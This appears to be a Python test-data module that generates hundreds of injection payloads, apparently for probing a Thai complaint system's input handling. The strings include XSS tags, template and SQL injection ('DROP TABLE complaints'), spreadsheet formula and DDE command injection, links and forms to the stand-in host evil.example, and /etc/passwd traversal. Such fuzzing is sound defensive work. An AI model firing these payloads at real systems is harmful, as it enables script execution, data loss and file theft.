"""What people write who wish that a page, a spreadsheet or a terminal runs it."""

from collections.abc import Callable
from itertools import product
from urllib.parse import quote

_TAGS = (
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg onload=alert({n})>",
    "<svg/onload=alert({n})//", "<body onload=alert({n})>", "<iframe src=javascript:alert({n})>",
    "<a href=javascript:alert({n})>ก</a>", "<a href='jAvAsCrIpT:alert({n})'>ก</a>", "<input onfocus=alert({n}) autofocus>",
    "<details open ontoggle=alert({n})>", "<video><source onerror=alert({n})></video>", "<math><mi//xlink:href=data:x>",
    "<object data=javascript:alert({n})>", "<embed src=data:text/html,x>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url(//evil.example/{n})}}</style>", "<form action=//evil.example><button>ส่ง",
    "<marquee onstart=alert({n})>", "<select onfocus=alert({n}) autofocus>", "<textarea onfocus=alert({n})>",
)  # fmt: skip
_BREAKS = (
    "{tag}",
    '">{tag}',
    "'>{tag}",
    "</textarea>{tag}",
    "</title></script>{tag}",
    "--></option></select>{tag}",
)


def _as_entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&#x3e;").replace('"', "&quot;")


def _with_odd_blanks(text: str) -> str:
    return text.replace(" ", "\t/\n").replace("javascript:", "java\tscript&colon;")


_WRITTEN: tuple[Callable[[str], str], ...] = (str, str.swapcase, _as_entities, quote, _with_odd_blanks)
_WITHIN = ("{}", "ไฟดับหน้าวัด{}ค่ะ", "น้ำ\u200bไม่ไหล {} นะคะ", "ก\u0e33{}", "๑๒๓/๔ หมู่ ๕ {} บ้านใหม่", "{}\u202eบาก")
_OTHERS = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "javascript:alert(1)",
    "{{7*7}}", "{{ config }}", "${7*7}", "#{7*7}", "{% raw %}", "<%= 7*7 %>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>", "<scr\u200bipt>alert(1)</scr\u200bipt>", "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>", "<!--<img src=--><img src=x onerror=alert(1)//>", "]]><script>alert(1)</script>",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example","ก")',
    "=cmd|' /C calc'!A0", "\x1b[2J\x1b[31mแดง", "../../../etc/passwd", "file:///etc/passwd", "'; DROP TABLE complaints;--",
)  # fmt: skip

PAYLOADS = list(
    dict.fromkeys(
        [
            _WITHIN[number % len(_WITHIN)].format(write(within.format(tag=tag.format(n=number))))
            for number, (write, within, tag) in enumerate(product(_WRITTEN, _BREAKS, _TAGS))
        ]
        + list(_OTHERS)
    )
)
"""More than five hundred, each of them another: every tag breaks out of every place, written in every way."""
